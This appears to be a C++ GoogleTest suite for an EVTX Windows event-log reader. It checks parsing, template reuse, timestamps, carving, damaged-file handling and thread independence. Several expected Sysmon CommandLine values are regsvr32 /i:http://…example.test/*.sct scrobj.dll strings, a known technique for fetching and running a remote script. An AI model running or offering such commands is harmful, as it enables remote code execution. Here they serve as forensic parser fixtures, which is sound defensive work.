// EVTX reader: regression cases C19/C20/C22/C24, field-for-field agreement with the
// derived XmlWinEventLog rendering, robustness on every .evtx under shared/ and on
// damaged copies, carving and thread-count independence.
#include <gtest/gtest.h>
#include <unistd.h>

#include <cstdlib>
#include <fstream>
#include <random>

#include <zlib.h>

#include "io/evtx/evtx_format.h"
#include "io_evtx_support.h"

namespace splinter::io {
namespace {

using evtx_test::CollectSink;
using evtx_test::Rec;
using evtx_test::read_file;
using evtx_test::shared_dir;

#define REQUIRE_FILE(path)                                               \
  if (!std::filesystem::exists(path)) GTEST_SKIP() << "missing " << path

const std::string kCases = shared_dir() + "/cases/";

// 2024-05-17T00:00:00Z in microseconds.
constexpr int64_t kDay = 1715904000LL * 1000000;
constexpr int64_t at(int h, int m, int s, int64_t us = 0) {
  return kDay + ((h * 3600LL + m * 60 + s) * 1000000) + us;
}

size_t errors(const CollectSink& s) { return s.problems.size() - s.warnings(); }

TEST(EvtxCases, C19TemplateReuseAndLongCommandLine) {
  REQUIRE_FILE(kCases + "C19.evtx");
  CollectSink s;
  FileStats st = read_file(kCases + "C19.evtx", s);
  ASSERT_EQ(s.recs.size(), 3u);
  EXPECT_EQ(st.read, 3u);
  EXPECT_EQ(st.parsed, 3u);
  EXPECT_EQ(st.rejected, 0u);
  EXPECT_EQ(s.problems.size(), 0u);
  EXPECT_EQ(st.format, Format::Evtx);
  // Records 2 and 3 reuse the template defined inline by record 1: same field list.
  for (const Rec& r : s.recs) {
    ASSERT_EQ(r.fields.size(), s.recs[0].fields.size());
    for (size_t i = 0; i < r.fields.size(); ++i) EXPECT_EQ(r.fields[i].first, s.recs[0].fields[i].first);
    EXPECT_EQ(r.at("Computer"), "WS01");
    EXPECT_EQ(r.at("EventID"), "1");
    EXPECT_EQ(r.at("EventCode"), "1");
    EXPECT_EQ(r.at("User"), "CORP\\alice");
    EXPECT_EQ(r.at("ProviderName"), "Microsoft-Windows-Sysmon");
    EXPECT_EQ(r.at("ProviderGuid"), "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}");
    EXPECT_EQ(r.at("Channel"), "Microsoft-Windows-Sysmon/Operational");
    EXPECT_EQ(r.at("UserID"), "S-1-5-18");
    EXPECT_EQ(r.at("LogonId"), "0x3e2a1f");
    EXPECT_FALSE(r.recovered);
    EXPECT_EQ(r.format, EventFormat::Evtx);
  }
  EXPECT_EQ(s.recs[0].at("CommandLine"), "regsvr32.exe /s /n /u /i:http://update.example.test/a.sct scrobj.dll");
  EXPECT_EQ(s.recs[0].at("ParentCommandLine"), "cmd.exe /c run.bat");
  EXPECT_EQ(s.recs[0].at("SystemTime"), "2024-05-17T08:00:00.100000000Z");
  EXPECT_EQ(s.recs[0].at("EventRecordID"), "201");
  EXPECT_EQ(s.recs[0].offset, 4608u);
  const std::string& big = s.recs[2].at("CommandLine");
  EXPECT_EQ(big.size(), 15058u);
  EXPECT_EQ(big.rfind("regsvr32.exe /s /i:http://cdn.example.test/AAAA", 0), 0u);
  EXPECT_TRUE(big.ends_with(".sct scrobj.dll"));
  EXPECT_EQ(s.recs[0].time_us, at(8, 0, 0, 100000));
  EXPECT_EQ(s.recs[1].time_us, at(8, 0, 5, 100000));
  EXPECT_EQ(s.recs[2].time_us, at(8, 0, 9, 100000));
}

TEST(EvtxCases, C20DirtyHeaderChunkCountTooSmall) {
  REQUIRE_FILE(kCases + "C20.evtx");
  CollectSink s;
  FileStats st = read_file(kCases + "C20.evtx", s);
  ASSERT_EQ(s.recs.size(), 3u);
  EXPECT_EQ(st.read, 3u);
  EXPECT_EQ(st.parsed, 3u);
  EXPECT_GE(s.warnings(), 1u);
  EXPECT_EQ(errors(s), 0u);
  bool chunk_count_warning = false;
  for (const auto& p : s.problems) chunk_count_warning |= p.what.find("chunks") != std::string::npos;
  EXPECT_TRUE(chunk_count_warning);
  EXPECT_EQ(s.recs[0].at("CommandLine"), "regsvr32.exe /s /i:http://cdn.example.test/a.sct scrobj.dll");
  EXPECT_EQ(s.recs[0].at("ParentCommandLine"), "cmd.exe /c one.bat");
  EXPECT_EQ(s.recs[2].at("CommandLine"), "regsvr32.exe /s /i:http://cdn.example.test/b.sct scrobj.dll");
  EXPECT_EQ(s.recs[2].at("ParentCommandLine"), "cmd.exe /c two.bat");
  EXPECT_GE(s.recs[2].offset, 4096u + 65536u);  // in the chunk the header does not count
  EXPECT_EQ(s.recs[0].time_us, at(9, 0, 0, 200000));
  EXPECT_EQ(s.recs[2].time_us, at(9, 5, 0, 200000));
}

TEST(EvtxCases, C22LoneSurrogateBecomesReplacementChar) {
  REQUIRE_FILE(kCases + "C22.evtx");
  CollectSink s;
  read_file(kCases + "C22.evtx", s);
  ASSERT_EQ(s.recs.size(), 2u);
  EXPECT_EQ(s.recs[0].at("CommandLine"),
            "regsvr32.exe /s /i:http://cdn.example.test/a.sct C:\\Users\\alice\\\xEF\xBF\xBDreport.dll");
  EXPECT_EQ(s.recs[1].at("CommandLine"), "regsvr32.exe /s C:\\Users\\alice\\\xF0\x9F\x98\x80.dll");
  for (const Rec& r : s.recs)
    for (const auto& [n, v] : r.fields) EXPECT_TRUE(evtx_test::valid_utf8(v)) << n;
  EXPECT_EQ(s.recs[0].time_us, at(11, 0, 0, 400000));
}

TEST(EvtxCases, C24OutOfRangeTimeCreatedFallsBackToHeaderTime) {
  REQUIRE_FILE(kCases + "C24.evtx");
  CollectSink s;
  FileStats st = read_file(kCases + "C24.evtx", s);
  ASSERT_EQ(s.recs.size(), 2u);
  EXPECT_EQ(st.parsed, 2u);
  // TimeCreated wins over the (different) record header time when valid.
  EXPECT_EQ(s.recs[0].time_us, at(13, 15, 2, 447123));
  EXPECT_EQ(s.recs[0].at("SystemTime"), "2024-05-17T13:15:02.447123000Z");
  EXPECT_EQ(s.recs[0].at("CommandLine"), "regsvr32.exe /s /i:http://cdn.example.test/a.sct scrobj.dll");
  // Out-of-range FILETIME: header time and one warning for that record.
  EXPECT_EQ(s.recs[1].time_us, at(13, 16, 0));
  EXPECT_EQ(s.recs[1].at("ParentCommandLine"), "cmd.exe /c t2.bat");
  ASSERT_EQ(s.problems.size(), 1u);
  EXPECT_TRUE(s.problems[0].warning);
  EXPECT_EQ(s.problems[0].offset, s.recs[1].offset);
  EXPECT_NE(s.problems[0].what.find("802"), std::string::npos);
}

// ---------------------------------------------------------------------------
// Field-for-field agreement with the XmlWinEventLog re-rendering of the same file.

// Fields of one XmlWinEventLog line, extracted with the documented rules (a small
// hand parser: std::regex trips GCC 12 -Wmaybe-uninitialized under the sanitizers).
std::vector<std::pair<std::string, std::string>> xml_fields(const std::string& line) {
  static const std::vector<std::pair<std::string, std::string>> attr_map = {
      {"Provider/Name", "ProviderName"}, {"Provider/Guid", "ProviderGuid"},
      {"TimeCreated/SystemTime", "SystemTime"}, {"Security/UserID", "UserID"},
      {"Execution/ProcessID", "ProcessID"}, {"Execution/ThreadID", "ThreadID"},
      {"Correlation/ActivityID", "ActivityID"}, {"Correlation/RelatedActivityID", "RelatedActivityID"}};
  std::vector<std::pair<std::string, std::string>> out;
  // Parses "<tag a='v' ...>text</tag>" or "<tag .../>" at p; returns false at a closing tag.
  auto element = [&](size_t& p, std::string& tag, std::vector<std::pair<std::string, std::string>>& attrs,
                     std::string& text, bool& has_text) {
    if (line.compare(p, 2, "</") == 0) return false;
    size_t q = p + 1;
    while (q < line.size() && line[q] != ' ' && line[q] != '>' && line[q] != '/') ++q;
    tag = line.substr(p + 1, q - p - 1);
    attrs.clear();
    has_text = false;
    while (line[q] == ' ') {
      const size_t eq = line.find('=', q);
      const size_t ve = line.find('\'', eq + 2);
      attrs.emplace_back(line.substr(q + 1, eq - q - 1), line.substr(eq + 2, ve - eq - 2));
      q = ve + 1;
    }
    if (line[q] == '/') {
      p = q + 2;
      return true;
    }
    const size_t te = line.find('<', q + 1);
    text = line.substr(q + 1, te - q - 1);
    has_text = true;
    p = line.find('>', te) + 1;
    return true;
  };
  std::string tag, text;
  std::vector<std::pair<std::string, std::string>> attrs;
  bool has_text;
  size_t p = line.find("<System>") + 8;
  while (element(p, tag, attrs, text, has_text)) {
    for (const auto& [a, v] : attrs)
      for (const auto& [from, to] : attr_map)
        if (tag + "/" + a == from) out.emplace_back(to, v);
    if (has_text) {
      out.emplace_back(tag, text);
      if (tag == "EventID") out.emplace_back("EventCode", text);
    }
  }
  p = line.find("<EventData>");
  if (p != std::string::npos) {
    p += 11;
    while (element(p, tag, attrs, text, has_text)) {
      std::string name = "Data";
      for (const auto& [a, v] : attrs)
        if (a == "Name") name = v;
      out.emplace_back(name, has_text ? text : "");
    }
  }
  return out;
}

// The derived file was rendered with python-evtx, not Windows. Its known rendering
// differences from Windows (and from genuine Splunk XmlWinEventLog data, e.g.
// shared/data/splunk-attack_data: LogonId 0x3e7, Initiated true, 7-digit ticks):
//   - SystemTime goes through a float: off by up to a few microseconds;
//   - HexInt32/HexInt64 values are zero-padded (0x00000000000003e7, Windows: 0x3e7);
//   - booleans are True/False (Windows: true/false).
// Everything else must be byte-identical.
bool same_modulo_python_evtx(const std::string& name, const std::string& ours, const std::string& ref) {
  if (ours == ref) return true;
  if (name == "SystemTime") {  // same second, microseconds within 3
    if (ours.size() < 26 || ref.size() < 26 || ours.compare(0, 20, ref, 0, 20) != 0) return false;
    return std::llabs(std::atoll(ours.substr(20, 6).c_str()) - std::atoll(ref.substr(20, 6).c_str())) <= 3;
  }
  if (ours.starts_with("0x") && ref.starts_with("0x"))
    return std::strtoull(ours.c_str(), nullptr, 16) == std::strtoull(ref.c_str(), nullptr, 16);
  if ((ours == "true" && ref == "True") || (ours == "false" && ref == "False")) return true;
  return false;
}

void compare_with_derived(const std::string& evtx, const std::string& log) {
  CollectSink s;
  read_file(evtx, s);
  std::ifstream in(log);
  std::string line;
  size_t i = 0;
  while (std::getline(in, line)) {
    if (line.empty()) continue;
    ASSERT_LT(i, s.recs.size());
    const auto ref = xml_fields(line);
    const auto& ours = s.recs[i].fields;
    ASSERT_EQ(ours.size(), ref.size()) << "record " << i;
    for (size_t k = 0; k < ref.size(); ++k) {
      EXPECT_EQ(ours[k].first, ref[k].first) << "record " << i;
      EXPECT_TRUE(same_modulo_python_evtx(ref[k].first, ours[k].second, ref[k].second))
          << "record " << i << " " << ref[k].first << ": ours '" << ours[k].second << "' derived '" << ref[k].second << "'";
    }
    ++i;
  }
  EXPECT_EQ(i, s.recs.size());
  EXPECT_GT(i, 0u);
}

TEST(EvtxDerived, PanacheSysmonMatchesXmlWinEventLogRendering) {
  const std::string evtx =
      shared_dir() + "/data/sbousseaden-EVTX-ATTACK-SAMPLES/AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.evtx";
  const std::string log = shared_dir() + "/data/derived-xmlwineventlog/PanacheSysmon_vs_AtomicRedTeam01.log";
  REQUIRE_FILE(evtx);
  REQUIRE_FILE(log);
  compare_with_derived(evtx, log);
}

TEST(EvtxDerived, BitsJobMatchesXmlWinEventLogRendering) {
  const std::string evtx =
      shared_dir() + "/data/sbousseaden-EVTX-ATTACK-SAMPLES/Persistence/sysmon_1_persist_bitsjob_SetNotifyCmdLine.evtx";
  const std::string log = shared_dir() + "/data/derived-xmlwineventlog/sysmon_1_persist_bitsjob_SetNotifyCmdLine.log";
  REQUIRE_FILE(evtx);
  REQUIRE_FILE(log);
  compare_with_derived(evtx, log);
}

TEST(EvtxDerived, EscapingAsWindowsRendersIt) {
  const std::string evtx =
      shared_dir() + "/data/sbousseaden-EVTX-ATTACK-SAMPLES/AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.evtx";
  REQUIRE_FILE(evtx);
  CollectSink s;
  read_file(evtx, s);
  bool gt = false, quote = false;
  for (const Rec& r : s.recs) {
    const std::string cl = r.at("CommandLine");
    gt |= cl.find("ATOMICREDTEAM &gt; %%windir%%") != std::string::npos;
    quote |= cl.starts_with("\"C:\\Windows\\system32\\cmd.exe\"");  // quotes stay raw in text
  }
  EXPECT_TRUE(gt);
  EXPECT_TRUE(quote);
}

// ---------------------------------------------------------------------------
// Robustness

// The native CRC32 (PCLMUL folding or slicing-by-8) must equal zlib's on every
// length, alignment and seed.
// TimeCreated/@SystemTime as rendered: a day past the month's end is out of range (the
// record header time is used instead, with a warning), not rolled into the next month.
TEST(EvtxFormat, SystemTimeParsing) {
  int64_t us = 0;
  ASSERT_TRUE(evtx::parse_iso_utc_us("2024-02-29T10:00:00.1234567Z", 28, us));
  EXPECT_EQ(us, (int64_t(1709200800) * 1000000) + 123456);
  EXPECT_FALSE(evtx::parse_iso_utc_us("2024-02-30T10:00:00.0000000Z", 28, us));
  EXPECT_FALSE(evtx::parse_iso_utc_us("2023-02-29T10:00:00.0000000Z", 28, us));
  EXPECT_FALSE(evtx::parse_iso_utc_us("1600-12-31T10:00:00.0000000Z", 28, us));
}

TEST(EvtxFormat, Crc32MatchesZlib) {
  std::mt19937_64 rng(12345);
  std::vector<uint8_t> buf(70000 + 64);
  for (auto& b : buf) b = uint8_t(rng());
  auto check = [&](size_t off, size_t n, uint32_t seed) {
    const uint32_t want = uint32_t(::crc32(seed, buf.data() + off, uInt(n)));
    ASSERT_EQ(evtx::crc32_of(buf.data() + off, n, seed), want) << "off=" << off << " n=" << n << " seed=" << seed;
  };
  for (size_t n = 0; n <= 600; ++n) check(n % 17, n, 0);
  for (int i = 0; i < 2000; ++i) check(size_t(rng() % 64), size_t(rng() % 70001), uint32_t(rng()));
  check(0, 65536, 0);
  check(0, 0, 0xdeadbeef);
  std::vector<uint8_t> zeros(65536, 0), ones(65536, 0xff);
  EXPECT_EQ(evtx::crc32_of(zeros.data(), zeros.size()), uint32_t(::crc32(0, zeros.data(), uInt(zeros.size()))));
  EXPECT_EQ(evtx::crc32_of(ones.data(), ones.size()), uint32_t(::crc32(0, ones.data(), uInt(ones.size()))));
}

TEST(EvtxRobustness, EveryEvtxUnderSharedReads) {
  const auto files = evtx_test::all_evtx_files();
  if (files.empty()) GTEST_SKIP() << "no shared data";
  uint64_t total = 0;
  for (const auto& f : files) {
    CollectSink s;
    FileStats st = read_file(f, s, ReadOptions{.carve = true});
    EXPECT_EQ(st.read, st.parsed + st.rejected) << f;
    EXPECT_EQ(st.parsed, s.recs.size()) << f;
    EXPECT_FALSE(st.failed) << f;
    for (const Rec& r : s.recs) {
      EXPECT_NE(r.time_us, kNoTime) << f;
      for (const auto& [n, v] : r.fields) ASSERT_TRUE(evtx_test::valid_utf8(v)) << f << " " << n;
    }
    total += s.recs.size();
  }
  EXPECT_GT(total, 10000u);
}

TEST(EvtxRobustness, ThreadCountDoesNotChangeOutput) {
  const std::string f = shared_dir() + "/data/omerbenamram-evtx/samples/security.evtx";
  REQUIRE_FILE(f);
  CollectSink one, many;
  ReadOptions o1;
  o1.threads = 1;
  ReadOptions o4;
  o4.threads = 4;
  read_file(f, one, o1);
  read_file(f, many, o4);
  ASSERT_EQ(one.recs.size(), many.recs.size());
  ASSERT_GT(one.recs.size(), 1000u);
  for (size_t i = 0; i < one.recs.size(); ++i) {
    ASSERT_EQ(one.recs[i].fields, many.recs[i].fields) << i;
    ASSERT_EQ(one.recs[i].offset, many.recs[i].offset);
    if (i > 0) {
      ASSERT_LT(one.recs[i - 1].offset, one.recs[i].offset);
    }
  }
}

// read_inputs decodes consecutive EVTX files as one batch on several threads. Whatever
// the thread count, events, problems and stats must come out exactly as reading each
// file alone, in input order, with other formats and missing files in between.
TEST(EvtxRobustness, BatchOfFilesKeepsInputOrder) {
  const std::string sec = shared_dir() + "/data/omerbenamram-evtx/samples/security.evtx";
  REQUIRE_FILE(sec);
  REQUIRE_FILE(kCases + "C19.evtx");
  REQUIRE_FILE(kCases + "C20.evtx");
  const std::filesystem::path dir = std::filesystem::temp_directory_path() /
                                    ("splinter_batch_" + std::to_string(::getpid()));
  std::filesystem::remove_all(dir);
  std::filesystem::create_directories(dir);
  std::filesystem::copy_file(kCases + "C19.evtx", dir / "a.evtx");
  std::filesystem::copy_file(sec, dir / "b.evtx");
  {
    std::vector<uint8_t> d = evtx_test::load(kCases + "C20.evtx");  // damaged copy: cut mid-chunk
    d.resize(d.size() - 700);
    std::ofstream(dir / "c.evtx", std::ios::binary).write(reinterpret_cast<const char*>(d.data()), long(d.size()));
  }
  std::ofstream(dir / "d.xml")
      << "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><EventID>1</EventID>"
         "<Computer>h</Computer></System></Event>\n";
  std::filesystem::copy_file(kCases + "C20.evtx", dir / "e.evtx");
  std::filesystem::copy_file(sec, dir / "f.evtx");
  // A file named after the walk (outside it: the same file again would be read once).
  const std::string after = dir.string() + "_a.evtx";
  std::filesystem::copy_file(kCases + "C19.evtx", after, std::filesystem::copy_options::overwrite_existing);
  const std::vector<std::string> inputs = {dir.string(), (dir / "missing.evtx").string(), after};

  auto run = [&](unsigned threads, CollectSink& sink) {
    ReadOptions o;
    o.threads = threads;
    return read_inputs(inputs, sink, o);
  };
  CollectSink ref;
  std::vector<FileStats> ref_stats = run(1, ref);
  ASSERT_EQ(ref_stats.size(), 8u);
  EXPECT_EQ(ref_stats[3].format, Format::XmlWinEventLog);
  EXPECT_TRUE(ref_stats[6].failed);  // missing.evtx
  // The serial batch equals reading file by file.
  std::vector<Rec> alone;
  for (const char* name : {"a.evtx", "b.evtx", "c.evtx"}) {
    CollectSink s;
    FileStats st = read_file((dir / name).string(), s, ReadOptions{.threads = 1});
    EXPECT_EQ(st.parsed, ref_stats[size_t(name[0] - 'a')].parsed) << name;
    alone.insert(alone.end(), s.recs.begin(), s.recs.end());
  }
  ASSERT_GT(ref.recs.size(), alone.size());
  for (size_t i = 0; i < alone.size(); ++i) ASSERT_EQ(ref.recs[i].fields, alone[i].fields) << i;
  EXPECT_EQ(ref.recs[alone.size()].at("EventID"), "1");  // d.xml comes next

  for (unsigned threads : {2u, 3u, 8u}) {
    CollectSink s;
    std::vector<FileStats> st = run(threads, s);
    ASSERT_EQ(s.recs.size(), ref.recs.size()) << threads;
    for (size_t i = 0; i < s.recs.size(); ++i) {
      ASSERT_EQ(s.recs[i].fields, ref.recs[i].fields) << threads << " " << i;
      ASSERT_EQ(s.recs[i].offset, ref.recs[i].offset);
    }
    ASSERT_EQ(s.problems.size(), ref.problems.size()) << threads;
    for (size_t i = 0; i < s.problems.size(); ++i) {
      EXPECT_EQ(s.problems[i].file, ref.problems[i].file) << threads << " " << i;
      EXPECT_EQ(s.problems[i].offset, ref.problems[i].offset);
      EXPECT_EQ(s.problems[i].what, ref.problems[i].what);
    }
    ASSERT_EQ(st.size(), ref_stats.size());
    for (size_t i = 0; i < st.size(); ++i) {
      EXPECT_EQ(st[i].path, ref_stats[i].path);
      EXPECT_EQ(st[i].read, ref_stats[i].read);
      EXPECT_EQ(st[i].parsed, ref_stats[i].parsed);
      EXPECT_EQ(st[i].rejected, ref_stats[i].rejected);
      EXPECT_EQ(st[i].bytes, ref_stats[i].bytes);
      EXPECT_EQ(st[i].failed, ref_stats[i].failed);
    }
  }
  std::filesystem::remove_all(dir);
  std::filesystem::remove(after);
}

// Preallocated logs copied by sparse-aware tools keep their unused chunks as holes,
// which the reader skips without paging them in. A hole must never hide data after it:
// a chunk written past a hole is still found and read (with the chunk-count warning).
TEST(EvtxRobustness, SparseTailIsSkippedButDataAfterAHoleIsRead) {
  REQUIRE_FILE(kCases + "C19.evtx");
  const std::vector<uint8_t> d = evtx_test::load(kCases + "C19.evtx");
  ASSERT_EQ(d.size(), 4096u + 65536u);
  const std::filesystem::path dir = std::filesystem::temp_directory_path() /
                                    ("splinter_sparse_" + std::to_string(::getpid()));
  std::filesystem::remove_all(dir);
  std::filesystem::create_directories(dir);
  auto write = [&](const std::string& name, size_t holes, bool chunk_after) {
    const std::string path = (dir / name).string();
    std::ofstream(path, std::ios::binary).write(reinterpret_cast<const char*>(d.data()), long(d.size()));
    // Extending by truncate leaves a hole; the chunk after it is written past the hole.
    std::filesystem::resize_file(path, d.size() + holes * 65536);
    if (chunk_after) {
      std::ofstream out(path, std::ios::binary | std::ios::in | std::ios::out);
      out.seekp(long(d.size() + holes * 65536));
      out.write(reinterpret_cast<const char*>(d.data() + 4096), 65536);
    }
    return path;
  };
  const std::string tail = write("tail.evtx", 40, false);
  const std::string after = write("after.evtx", 40, true);
  CollectSink plain, sparse, with_after;
  FileStats a = read_file(kCases + "C19.evtx", plain);
  FileStats b = read_file(tail, sparse);
  FileStats c = read_file(after, with_after);
  EXPECT_EQ(b.parsed, a.parsed);
  ASSERT_EQ(sparse.recs.size(), plain.recs.size());
  for (size_t i = 0; i < plain.recs.size(); ++i) EXPECT_EQ(sparse.recs[i].fields, plain.recs[i].fields);
  EXPECT_EQ(sparse.problems.size(), plain.problems.size());
  EXPECT_EQ(c.parsed, 2 * a.parsed);
  bool claims = false;
  for (const auto& p : with_after.problems)
    claims |= p.what.find("header claims 1 chunks but 42 are present") != std::string::npos;
  EXPECT_TRUE(claims);
  std::filesystem::remove_all(dir);
}

TEST(EvtxRobustness, CarvingRecoversSlackRecords) {
  const std::string f = shared_dir() + "/data/omerbenamram-evtx/samples/sample_with_a_bad_chunk_magic.evtx";
  REQUIRE_FILE(f);
  CollectSink plain, carved;
  FileStats a = read_file(f, plain);
  FileStats b = read_file(f, carved, ReadOptions{.carve = true});
  EXPECT_EQ(a.parsed, 298u);
  EXPECT_EQ(b.parsed, 348u);  // = evtxexport -m all
  size_t recovered = 0;
  for (const Rec& r : carved.recs) {
    recovered += r.recovered;
    // Marked where searches and output see it, once, on carved records only.
    size_t marks = 0;
    for (const auto& [name, value] : r.fields)
      if (name == kRecoveredField) {
        ++marks;
        EXPECT_EQ(value, "true");
      }
    EXPECT_EQ(marks, r.recovered ? 1u : 0u);
  }
  EXPECT_EQ(recovered, 50u);
  EXPECT_EQ(b.recovered, 50u);
  EXPECT_EQ(a.recovered, 0u);
  for (const Rec& r : plain.recs) {
    EXPECT_FALSE(r.recovered);
    for (const auto& [name, value] : r.fields) EXPECT_NE(name, kRecoveredField);
  }
  bool bad_magic = false;
  for (const auto& p : plain.problems) bad_magic |= !p.warning && p.what.find("chunk 6") != std::string::npos;
  EXPECT_TRUE(bad_magic);
}

TEST(EvtxRobustness, DamagedHeaderStillReads) {
  REQUIRE_FILE(kCases + "C19.evtx");
  std::vector<uint8_t> d = evtx_test::load(kCases + "C19.evtx");
  d[42] = 0;    // chunk count 0
  d[24] = 1;    // next record id stale
  d[120] |= 1;  // dirty
  d[4096 + 60] ^= 0xff;  // chunk header checksum now wrong
  CollectSink s;
  FileStats st;
  read_evtx(d.data(), d.size(), "x.evtx", s, st, {});
  EXPECT_EQ(s.recs.size(), 3u);
  EXPECT_EQ(errors(s), 0u);
  EXPECT_GE(s.warnings(), 4u);  // header checksum, dirty, chunk count, chunk checksum
}

// Found by a new user: a copy cut after the file header read as an empty log, with no
// error and exit 0. The header's chunk count says how long the file must be.
TEST(EvtxRobustness, TruncatedCopyIsAnError) {
  REQUIRE_FILE(kCases + "C19.evtx");
  const std::vector<uint8_t> d = evtx_test::load(kCases + "C19.evtx");
  for (size_t cut : {size_t(4096), size_t(50000)}) {
    CollectSink s;
    FileStats st;
    read_evtx(d.data(), cut, "t.evtx", s, st, {});
    ASSERT_EQ(errors(s), 1u) << cut;
    const auto& p = s.problems.front();
    EXPECT_EQ(p.offset, cut);
    EXPECT_NE(p.what.find("file truncated: its header claims 1 chunk(s), ending at byte 69632"), std::string::npos)
        << p.what;
    EXPECT_EQ(st.read, st.parsed + st.rejected);
  }
  // The whole file: no such error.
  CollectSink s;
  FileStats st;
  read_evtx(d.data(), d.size(), "t.evtx", s, st, {});
  EXPECT_EQ(errors(s), 0u);
}

TEST(EvtxRobustness, GarbageRecordSizeSkipsOnlyThatRecord) {
  REQUIRE_FILE(kCases + "C19.evtx");
  std::vector<uint8_t> d = evtx_test::load(kCases + "C19.evtx");
  // Second record starts at 8496: give it an impossible size.
  ASSERT_EQ(d[8496], 0x2a);
  d[8496 + 4] = 0xff;
  d[8496 + 5] = 0xff;
  CollectSink s;
  FileStats st;
  read_evtx(d.data(), d.size(), "x.evtx", s, st, {});
  EXPECT_EQ(s.recs.size(), 2u);
  EXPECT_EQ(st.read, 3u);
  EXPECT_EQ(st.rejected, 1u);
  EXPECT_EQ(s.recs[1].at("EventRecordID"), "203");
  EXPECT_GE(errors(s), 1u);
}

TEST(EvtxRobustness, TruncationAndBitFlipsNeverCrash) {
  const std::string f = shared_dir() + "/data/omerbenamram-evtx/samples/security.evtx";
  REQUIRE_FILE(f);
  REQUIRE_FILE(kCases + "C19.evtx");
  const std::vector<uint8_t> big = evtx_test::load(f);
  // Truncations at awkward places, including inside the header and inside records.
  for (size_t cut : {size_t(0), size_t(7), size_t(100), size_t(4096), size_t(4096 + 300), size_t(4096 + 5000),
                     size_t(4096 + 65536 + 1), big.size() / 2 + 13, big.size() - 1}) {
    CollectSink s;
    FileStats st;
    read_evtx(big.data(), std::min(cut, big.size()), "t.evtx", s, st, {.carve = true});
    EXPECT_EQ(st.read, st.parsed + st.rejected);
  }
  // Random byte corruption of a small file (templates, names, sizes, substitutions).
  const std::vector<uint8_t> small = evtx_test::load(kCases + "C19.evtx");
  std::mt19937 rng(42);
  for (int iter = 0; iter < 400; ++iter) {
    std::vector<uint8_t> d = small;
    const int flips = 1 + int(rng() % 16);
    for (int k = 0; k < flips; ++k) {
      const size_t pos = 4096 + rng() % (12000 - 4096);
      d[pos] = uint8_t(rng());
    }
    CollectSink s;
    FileStats st;
    read_evtx(d.data(), d.size(), "f.evtx", s, st, {.carve = (iter & 1) != 0, .threads = 1});
    EXPECT_EQ(st.read, st.parsed + st.rejected);
    for (const Rec& r : s.recs)
      for (const auto& [n, v] : r.fields) ASSERT_TRUE(evtx_test::valid_utf8(n) && evtx_test::valid_utf8(v));
  }
}

// A chunk-sized stretch without a chunk signature: leftover bytes past the log's end are
// a warning (nothing lost, as in omerbenamram's sysmon.evtx); records standing in a chunk
// whose signature was smashed are counted as lost, so read = parsed + rejected holds.
TEST(EvtxRobustness, ChunkWithoutSignatureCountsOnlyRecordsInIt) {
  REQUIRE_FILE(kCases + "C19.evtx");
  const std::vector<uint8_t> orig = evtx_test::load(kCases + "C19.evtx");
  {
    std::vector<uint8_t> d = orig;
    d.resize(4096 + 2 * 65536, 0);
    for (size_t i = 4096 + 65536; i < d.size(); i += 16) d[i + 12] = 0x54;  // garbage, no records
    CollectSink s;
    FileStats st;
    read_evtx(d.data(), d.size(), "x.evtx", s, st, {});
    EXPECT_EQ(s.recs.size(), 3u);
    EXPECT_EQ(st.read, 3u);
    EXPECT_EQ(st.rejected, 0u);
    EXPECT_EQ(errors(s), 0u);
  }
  {
    std::vector<uint8_t> d = orig;
    d[4096] = 'X';  // the only chunk loses its signature: its 3 records are lost
    CollectSink s;
    FileStats st;
    read_evtx(d.data(), d.size(), "x.evtx", s, st, {});
    EXPECT_EQ(s.recs.size(), 0u);
    EXPECT_EQ(st.read, 3u);
    EXPECT_EQ(st.rejected, 3u);
    ASSERT_EQ(errors(s), 1u);
  }
}

}  // namespace
}  // namespace splinter::io
